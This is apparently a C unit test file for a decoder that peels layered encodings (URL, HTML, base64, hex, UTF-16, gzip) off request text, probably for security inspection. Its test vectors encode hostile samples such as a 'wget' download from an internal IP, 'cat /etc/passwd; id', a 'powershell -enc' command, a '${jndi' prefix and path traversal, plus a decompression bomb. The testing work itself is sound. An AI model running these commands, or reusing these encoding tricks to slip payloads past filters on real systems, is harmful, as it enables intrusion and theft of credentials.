/* SPDX-License-Identifier: Apache-2.0 */
#include "packet/peel.h"

#include "base/status.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <zlib.h>

#include <cmocka.h>

#define S(lit)                                                                           \
    {                                                                                    \
        "" lit, sizeof(lit) - 1                                                          \
    }

/* clang-format off */
static const struct {
    const char *name;
    struct yg_str in, out;
    uint32_t what, layers;
} cases[] = {
    { "nothing", S("GET /index.html HTTP/1.1"), S("GET /index.html HTTP/1.1"), 0, 0 },
    { "empty", S(""), S(""), 0, 0 },
    { "url", S("/a%2e%2e%2Fetc"), S("/a../etc"), YG_PEEL_URL, 1 },
    { "url, a plus is a space", S("c=cat+%2fetc"), S("c=cat /etc"), YG_PEEL_URL | YG_PEEL_PLUS, 1 },
    { "a plus alone stays", S("1+1 x=2"), S("1+1 x=2"), 0, 0 },
    { "url twice", S("%252e%252e/"), S("../"), YG_PEEL_URL, 2 },
    { "url three times", S("%25252e"), S("."), YG_PEEL_URL, 3 },
    { "url four times", S("%2525252e"), S("."), YG_PEEL_URL, 4 },
    { "the fifth layer stays", S("%252525252e"), S("%2e"), YG_PEEL_URL, 4 },
    { "url of 16 bits", S("%u003cscript%u003E"), S("<script>"), YG_PEEL_URL, 1 },
    { "url, overlong slash", S("..%c0%af..%C1%9C"), S("../..\\"), YG_PEEL_URL, 1 },
    { "no url", S("100% %zz %u12"), S("100% %zz %u12"), 0, 0 },
    { "url cut", S("abc%2"), S("abc%2"), 0, 0 },
    { "url of NUL", S("a%00b"), S("a\0b"), YG_PEEL_URL, 1 },
    { "html", S("&lt;b&gt; &#39;&#x41;&#66 &amp;"), S("<b> 'AB &"), YG_PEEL_HTML, 1 },
    { "html twice", S("&amp;lt;"), S("<"), YG_PEEL_HTML, 2 },
    { "no html", S("a&b=1&lt=2&#;&#x;"), S("a&b=1&lt=2&#;&#x;"), 0, 0 },
    { "html of no character", S("&#x110000;&#99999999999;"), S("\xef\xbf\xbd\xef\xbf\xbd" "9;"), YG_PEEL_HTML, 1 },
    { "html under url", S("%26lt%3Bx"), S("<x"), YG_PEEL_URL | YG_PEEL_HTML, 2 },
    { "html beside url", S("%41&lt;"), S("A<"), YG_PEEL_URL | YG_PEEL_HTML, 1 },
    { "escapes", S("\\u0024\\x7bjndi\\u00e9"), S("${jndi\xc3\xa9"), YG_PEEL_ESCAPE, 1 },
    { "escape of a pair", S("\\ud83d\\ude00"), S("\xf0\x9f\x98\x80"), YG_PEEL_ESCAPE, 1 },
    { "escape of half a pair", S("\\ud83dx"), S("\xef\xbf\xbdx"), YG_PEEL_ESCAPE, 1 },
    { "an escaped backslash is none", S("\\\\u0041"), S("\\\\u0041"), 0, 0 },
    { "base64", S("x=d2dldCBodHRwOi8vMTAuMC4wLjEvYQ=="), S("x=wget http://10.0.0.1/a"), YG_PEEL_BASE64, 1 },
    { "base64 without padding", S("x=d2dldCBodHRwOi8vMTAuMC4wLjEvYQ"), S("x=wget http://10.0.0.1/a"), YG_PEEL_BASE64, 1 },
    { "base64 in a path", S("/Basic/Command/Base64/d2dldCBodHRwOi8vMTAuMC4wLjEvYQ=="),
        S("/Basic/Command/Base64/wget http://10.0.0.1/a"), YG_PEEL_BASE64, 1 },
    { "base64 with its padding in url", S("x=d2dldCBodHRwOi8vMTAuMC4wLjEvYQ%3D%3D&y"),
        S("x=wget http://10.0.0.1/a&y"), YG_PEEL_BASE64, 1 },
    { "base64 with its plus in url", S("aWQ+IHRtcD4+IC90bXAvb3V0"), S("id> tmp>> /tmp/out"), YG_PEEL_BASE64, 1 },
    { "base64, plus as %2B", S("aWQ%2BIHRtcD4%2BIC90bXAvb3V0"), S("id> tmp>> /tmp/out"), YG_PEEL_BASE64, 1 },
    { "base64 for URLs", S("aWQ-IHRtcD4-IC90bXAvb3V0"), S("id> tmp>> /tmp/out"), YG_PEEL_BASE64, 1 },
    { "base64 twice", S("ZDJkbGRDQm9kSFJ3T2k4dk1UQXVNQzR3TGpFdllRPT0="), S("wget http://10.0.0.1/a"), YG_PEEL_BASE64, 2 },
    { "short base64 stays", S("aGVsbG8="), S("aGVsbG8="), 0, 0 },
    { "a long word is no base64", S("thisisaverylongidentifiername"), S("thisisaverylongidentifiername"), 0, 0 },
    { "a digest is no hex", S("d41d8cd98f00b204e9800998ecf8427e"), S("d41d8cd98f00b204e9800998ecf8427e"), 0, 0 },
    { "hex", S("q=2e2e2f2e2e2f6574632f706173737764"), S("q=../../etc/passwd"), YG_PEEL_HEX, 1 },
    { "hex of SQL", S("(0x3c3f706870)"), S("(0x<?php)"), YG_PEEL_HEX, 1 },
    { "UTF-16", S("w\0h\0o\0a\0m\0i\0"), S("whoami"), YG_PEEL_UTF16, 1 },
    { "UTF-16 from the big end", S("\0w\0h\0o\0a\0m\0i"), S("whoami"), YG_PEEL_UTF16, 1 },
    { "UTF-16 with a mark", S("\xff\xfe\x3d\xd8\x00\xde" "a\0"), S("\xf0\x9f\x98\x80" "a"), YG_PEEL_UTF16, 1 },
    { "a shell's encoded command", S("powershell -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA=="),
        S("powershell -enc whoami /all"), YG_PEEL_BASE64 | YG_PEEL_UTF16, 2 },
    { "a url escape inside what is no base64", S("AAAAAAAAAAAAAAAAA%2BBB"), S("AAAAAAAAAAAAAAAAA+BB"), YG_PEEL_URL, 1 },
    { "plus inside a long run", S("%41%20AAAAAAAAAAAAAAAA+BBB"), S("A AAAAAAAAAAAAAAAA BBB"), YG_PEEL_URL | YG_PEEL_PLUS, 1 },
};
/* clang-format on */

static void each_encoding(void **state)
{
    bool ok = true;

    (void)state;
    for (size_t i = 0; i < YG_ARRAY_LEN(cases); i++) {
        struct yg_arena a;
        yg_arena_init(&a, 1 << 20);
        /* a block of its size: nothing behind it is read */
        char *in = malloc(cases[i].in.n + 1);
        assert_non_null(in);
        memmove(in + 1, cases[i].in.p, cases[i].in.n);
        struct yg_peeled p = yg_peel((struct yg_str){ in + 1, cases[i].in.n }, &a);
        if (!yg_str_eq(p.text, cases[i].out) || p.what != cases[i].what ||
            p.layers != cases[i].layers) {
            print_error("%s: \"%.*s\" what %u layers %u\n", cases[i].name,
                        YG_STR_ARG(p.text), p.what, p.layers);
            ok = false;
        }
        free(in);
        yg_arena_fini(&a);
    }
    assert_true(ok);
}

static size_t deflated(struct yg_str in, int bits, unsigned char *out, size_t size)
{
    z_stream z = { 0 };

    assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, bits, 8, Z_DEFAULT_STRATEGY), Z_OK);
    z.next_in = (z_const Bytef *)(uintptr_t)in.p;
    z.avail_in = (uInt)in.n;
    z.next_out = out;
    z.avail_out = (uInt)size;
    assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
    (void)deflateEnd(&z);
    return size - z.avail_out;
}

static void inflates_each_form(void **state)
{
    static const struct {
        const char *name;
        int bits;
    } form[] = { { "gzip", 31 }, { "zlib", 15 }, { "raw", -15 } };
    struct yg_str text = YG_STR("the quick brown fox jumps over the lazy dog, the fox");
    unsigned char packed[512];
    struct yg_arena a;
    struct yg_str out;
    bool over;

    (void)state;
    yg_arena_init(&a, 1 << 20);
    for (size_t i = 0; i < YG_ARRAY_LEN(form); i++) {
        size_t n = deflated(text, form[i].bits, packed, sizeof(packed));
        struct yg_str in = { (char *)packed, n };
        if (!yg_inflate(in, 4096, &a, &out, &over) || over || !yg_str_eq(out, text))
            fail_msg("%s", form[i].name);
        in.n = n - 9; /* cut: what came before is kept */
        assert_false(yg_inflate(in, 4096, &a, &out, &over));
        assert_false(over);
        if (!yg_str_starts(text, out))
            fail_msg("%s, cut", form[i].name);
        in.n = n;
        assert_false(yg_inflate(in, 10, &a, &out, &over));
        assert_true(over);
        assert_true(yg_str_eq(out, (struct yg_str){ text.p, 10 }));
    }
    assert_false(yg_inflate(YG_STR("no such thing"), 4096, &a, &out, &over));
    assert_false(over);
    assert_false(yg_inflate(YG_STR_NONE, 4096, &a, &out, &over));
    yg_arena_fini(&a);
}

static void members_of_gzip_follow_each_other(void **state)
{
    unsigned char packed[512];
    struct yg_arena a;
    struct yg_str out;
    bool over;

    (void)state;
    yg_arena_init(&a, 1 << 20);
    size_t n = deflated(YG_STR("one "), 31, packed, sizeof(packed));
    n += deflated(YG_STR("two"), 31, packed + n, sizeof(packed) - n);
    assert_true(yg_inflate((struct yg_str){ (char *)packed, n }, 4096, &a, &out, &over));
    assert_true(yg_str_eq(out, YG_STR("one two")));
    yg_arena_fini(&a);
}

/* 1 MiB of one byte: refused at the cap, as a body and as an encoding. */
static void a_bomb_stops_at_the_cap(void **state)
{
    static char big[1 << 20];
    static unsigned char packed[8192];
    struct yg_arena a;
    struct yg_str out;
    bool over;

    (void)state;
    yg_arena_init(&a, 4 << 20);
    memset(big, 'a', sizeof(big));
    size_t n = deflated((struct yg_str){ big, sizeof(big) }, 31, packed, sizeof(packed));
    struct yg_str in = { (char *)packed, n };
    assert_false(yg_inflate(in, 65536, &a, &out, &over));
    assert_true(over);
    assert_int_equal(out.n, 65536);
    struct yg_peeled p = yg_peel(in, &a);
    assert_int_equal(p.text.n, YG_PEEL_MAX);
    assert_int_equal(p.what, YG_PEEL_GZIP);
    yg_arena_fini(&a);
}

static void gzip_inside_base64_inside_url(void **state)
{
    static const char digits[] =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    unsigned char packed[256] = { 0 };
    char text[512];
    size_t n = deflated(YG_STR("cat /etc/passwd; id"), 31, packed, sizeof(packed) - 3);
    int at = snprintf(text, sizeof(text), "q%%3d");
    struct yg_arena a;

    (void)state;
    for (size_t i = 0; i < n; i += 3) {
        uint32_t v =
            (uint32_t)packed[i] << 16 | (uint32_t)packed[i + 1] << 8 | packed[i + 2];
        for (int k = 3; k >= 0; k--)
            text[at++] = digits[v >> 6 * k & 63];
    }
    yg_arena_init(&a, 1 << 20);
    struct yg_peeled p = yg_peel((struct yg_str){ text, (size_t)at }, &a);
    assert_true(yg_str_eq(p.text, YG_STR("q=cat /etc/passwd; id")));
    assert_int_equal(p.what, YG_PEEL_URL | YG_PEEL_BASE64 | YG_PEEL_GZIP);
    assert_int_equal(p.layers, 2);
    yg_arena_fini(&a);
}

/* What would be quadratic if runs were tried again from each of their characters. */
static void long_runs_are_looked_at_once(void **state)
{
    static const char *const unit[] = {
        "A", "AAAAAAAAAAAAAAAAAAA/", "A%2B", "0x41", "%25", "\\", "&#", "4", "+a%41"
    };
    static char big[YG_PEEL_MAX];
    struct yg_arena a;

    (void)state;
    for (size_t i = 0; i < YG_ARRAY_LEN(unit); i++) {
        size_t n = strlen(unit[i]);
        for (size_t k = 0; k < sizeof(big); k++)
            big[k] = unit[i][k % n];
        yg_arena_init(&a, 8 << 20);
        struct yg_peeled p = yg_peel((struct yg_str){ big, sizeof(big) }, &a);
        assert_true(p.text.n <= sizeof(big));
        yg_arena_fini(&a);
    }
}

static void without_memory_the_input_comes_back(void **state)
{
    struct yg_arena a;

    (void)state;
    yg_arena_init(&a, 0);
    struct yg_str in = YG_STR("%41%42");
    struct yg_peeled p = yg_peel(in, &a);
    assert_ptr_equal(p.text.p, in.p);
    assert_int_equal(p.what, 0);
    assert_int_equal(p.layers, 0);
    yg_arena_fini(&a);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(each_encoding),
        cmocka_unit_test(inflates_each_form),
        cmocka_unit_test(members_of_gzip_follow_each_other),
        cmocka_unit_test(a_bomb_stops_at_the_cap),
        cmocka_unit_test(gzip_inside_base64_inside_url),
        cmocka_unit_test(long_runs_are_looked_at_once),
        cmocka_unit_test(without_memory_the_input_comes_back),
    };

    cmocka_set_message_output(CM_OUTPUT_TAP);
    return cmocka_run_group_tests_name("peel", tests, NULL, NULL);
}
